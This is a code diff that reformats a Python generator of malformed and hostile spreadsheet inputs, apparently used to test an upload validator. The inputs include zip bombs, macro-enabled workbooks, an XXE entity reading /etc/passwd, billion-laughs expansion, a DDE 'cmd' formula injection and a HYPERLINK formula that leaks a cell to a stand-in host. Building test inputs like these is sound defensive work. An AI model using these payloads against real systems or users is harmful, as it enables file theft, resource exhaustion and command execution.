@@ -105,7 +105,12 @@ def raw_zip(members, declared=None):
         encoded = name.encode()
         common = struct.pack("<HHHHHIII", 20, 0, 8, 0, 33, 0, len(data), min(stated, 0xFFFFFFFE))
         local = b"PK\x03\x04" + common + struct.pack("<HH", len(encoded), 0) + encoded + data
-        entry = b"PK\x01\x02\x14\x00" + common + struct.pack("<HHHHHII", len(encoded), 0, 0, 0, 0, 0, offset) + encoded
+        entry = (
+            b"PK\x01\x02\x14\x00"
+            + common
+            + struct.pack("<HHHHHII", len(encoded), 0, 0, 0, 0, 0, offset)
+            + encoded
+        )
         body.append(local)
         directory.append(entry)
         offset += len(local)
@@ -130,7 +135,9 @@ def bomb(part, megabytes, declared=None):
     members = parts(sheet_xml([HEAD, GOOD]))
     members.pop(part, None)
     listed = [(name, deflated(text.encode()), len(text.encode())) for name, text in members.items()]
-    return raw_zip([*listed, (part, endless(megabytes, b"<row></row>" * 10), megabytes * 1_000_000)], declared)
+    return raw_zip(
+        [*listed, (part, endless(megabytes, b"<row></row>" * 10), megabytes * 1_000_000)], declared
+    )
 
 
 # The kinds: each takes a variation from 0 to 7 and a seeded generator, and returns suffix and bytes.
@@ -159,7 +166,11 @@ def wrong_type_xlsx(v, rng):
 
 def wrong_type_csv(v, rng):
     zipped = workbook([HEAD, GOOD])
-    return ".csv", [*(sign + rng.randbytes(5000) for sign in _SIGNS[:6]), zipped, b"SQLite format 3\0" + bytes(900)][v]
+    return ".csv", [
+        *(sign + rng.randbytes(5000) for sign in _SIGNS[:6]),
+        zipped,
+        b"SQLite format 3\0" + bytes(900),
+    ][v]
 
 
 def bomb_honest(v, rng):
@@ -204,11 +215,18 @@ def macro(v, rng):
     if v < 2:
         return [".xlsm", ".xlsb"][v], workbook(rows)
     if v < 6:
-        place = ["xl/vbaProject.bin", "xl/VBAPROJECT.BIN", "vbaProject.bin", "xl/macros/vbaProject.bin"][v - 2]
+        place = ["xl/vbaProject.bin", "xl/VBAPROJECT.BIN", "vbaProject.bin", "xl/macros/vbaProject.bin"][
+            v - 2
+        ]
         return ".xlsx", packed(parts(sheet_xml(rows), extra={place: rng.randbytes(3000)}))
     members = parts(sheet_xml(rows))
-    kind = ["application/vnd.ms-excel.sheet.macroEnabled.main+xml", "application/vnd.ms-excel.template.MACROENABLED"]
-    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(f"{SPREADSHEET}.sheet.main+xml", kind[v - 6])
+    kind = [
+        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
+        "application/vnd.ms-excel.template.MACROENABLED",
+    ]
+    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
+        f"{SPREADSHEET}.sheet.main+xml", kind[v - 6]
+    )
     return ".xlsx", packed(members)
 
 
@@ -222,9 +240,14 @@ _OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
 
 def entity(v, rng):
     members = parts(sheet_xml([HEAD, GOOD]))
-    names = ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml"]
+    names = [
+        "xl/worksheets/sheet1.xml",
+        "xl/workbook.xml",
+        "xl/_rels/workbook.xml.rels",
+        "[Content_Types].xml",
+    ]
     if v == 6:
-        members["xl/sharedStrings.xml"] = f'{XML}{_LAUGHS}<sst {MAIN}><si><t>&lol9;</t></si></sst>'
+        members["xl/sharedStrings.xml"] = f"{XML}{_LAUGHS}<sst {MAIN}><si><t>&lol9;</t></si></sst>"
     elif v == 7:
         text = sheet_xml([HEAD, GOOD], prolog='<?xml version="1.0" encoding="UTF-16"?>' + _LAUGHS)
         members[names[0]] = codecs.BOM_UTF16_LE + text.encode("utf-16-le")
@@ -256,7 +279,7 @@ def wrong_encoding(v, rng):
 
 
 _FORMULAS = [
-    '=HYPERLINK(\'http://x.test\'&A1)',
+    "=HYPERLINK('http://x.test'&A1)",
     "=1+1",
     "+cmd|' /C calc'!A0",
     "@SUM(1+1)",
@@ -275,7 +298,10 @@ def formula_cells(v, rng):
     cached = "" if v % 2 else "<v>170</v>"
     column = "ABCDE"[v % 5]
     rows = with_value("170")
-    rows[2] = [f'<c r="{column}3"><f>1+{v}</f>{cached}</c>' if c == column else t for c, t in zip("ABCDE", rows[2], strict=True)]
+    rows[2] = [
+        f'<c r="{column}3"><f>1+{v}</f>{cached}</c>' if c == column else t
+        for c, t in zip("ABCDE", rows[2], strict=True)
+    ]
     return ".xlsx", workbook(rows)
 
 
@@ -300,7 +326,12 @@ def empty(v, rng):
 
 
 def header_only(v, rng):
-    heads = [HEAD, [*HEAD, "unit"], ["city", "period", "hospitals", "source"], ["city", "period", "variable", "value"]]
+    heads = [
+        HEAD,
+        [*HEAD, "unit"],
+        ["city", "period", "hospitals", "source"],
+        ["city", "period", "variable", "value"],
+    ]
     return (".csv", csv_bytes([heads[v]])) if v < 4 else (".xlsx", workbook([heads[v - 4]]))
 
 
@@ -330,7 +361,9 @@ def nul_bytes(v, rng):
 
 
 def not_finite(v, rng):
-    return ".csv", csv_bytes(with_value(["inf", "-inf", "nan", "NaN", "Infinity", "1e999", "-1e999", "+inf"][v]))
+    return ".csv", csv_bytes(
+        with_value(["inf", "-inf", "nan", "NaN", "Infinity", "1e999", "-1e999", "+inf"][v])
+    )
 
 
 def long_line(v, rng):
@@ -345,8 +378,20 @@ def many_sheets(v, rng):
 
 
 def huge_extent(v, rng):
-    corner = ["XFD1048576", "BXW1048576", "E1048576", "XFD2", "ZZ1000000", "AAA900000", "J9999999", "CV500000"][v]
-    rows = rows_xml([HEAD, GOOD]) + f'<row r="{corner.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")}">{number_cell(corner, 1)}</row>'
+    corner = [
+        "XFD1048576",
+        "BXW1048576",
+        "E1048576",
+        "XFD2",
+        "ZZ1000000",
+        "AAA900000",
+        "J9999999",
+        "CV500000",
+    ][v]
+    rows = (
+        rows_xml([HEAD, GOOD])
+        + f'<row r="{corner.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")}">{number_cell(corner, 1)}</row>'
+    )
     return ".xlsx", workbook(rows, before='<dimension ref="A1:XFD1048576"/>')
 
 
